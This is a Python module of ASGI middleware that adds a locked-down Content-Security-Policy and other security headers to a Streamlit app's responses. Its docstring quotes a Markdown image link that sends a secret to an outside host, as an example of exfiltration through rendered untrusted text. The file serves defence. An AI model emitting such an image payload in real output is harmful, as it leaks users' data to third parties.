"""Security headers: what a browser may load for this app, sent with every HTTP response.

In: the server's responses. Out: the same, with a Content-Security-Policy. Answers and documents
are untrusted text; Markdown such as `![](http://elsewhere/?q=secret)` would hand what it says to
a stranger. Escaping it in mid-stream misses what is split over two chunks; a policy in the
browser does not. It does not know which page is shown.
"""

import base64
import hashlib
import re
from pathlib import Path

import streamlit
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def inline_script_hashes(html: str) -> list[str]:
    """The CSP sources that allow a page's own inline scripts and no others."""
    digests = (hashlib.sha256(s.encode()).digest() for s in _INLINE_SCRIPT.findall(html))
    return [f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests]


def content_security_policy() -> str:
    """Everything from this server, nothing from elsewhere."""
    shell = Path(streamlit.__file__).parent / "static" / "index.html"
    scripts = " ".join(inline_script_hashes(shell.read_text(encoding="utf-8")))
    directives = {
        "default-src": "'self'",
        # blob: is how Streamlit loads the JavaScript of a component; only script that already runs
        # here can make such an address.
        "script-src": f"'self' blob: {scripts}",
        "style-src": "'self' 'unsafe-inline'",  # Streamlit writes its styles into the page
        "img-src": "'self' data: blob:",
        "media-src": "'self' data: blob:",
        "font-src": "'self' data:",
        "connect-src": "'self'",  # the WebSocket to this server included
        "worker-src": "'self' blob:",
        "object-src": "'none'",
        "base-uri": "'none'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
    }
    return "; ".join(f"{name} {sources}" for name, sources in directives.items())


class SecurityHeaders:
    """ASGI middleware that adds the headers to whatever the app answers."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app
        self._headers = {
            "Content-Security-Policy": content_security_policy(),
            "Referrer-Policy": "no-referrer",  # the address names the conversation
            "X-Content-Type-Options": "nosniff",
            "X-DNS-Prefetch-Control": "off",  # a link's host name can carry a secret, unclicked
        }

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message).update(self._headers)
            await send(message)

        await self._app(scope, receive, send_with_headers)
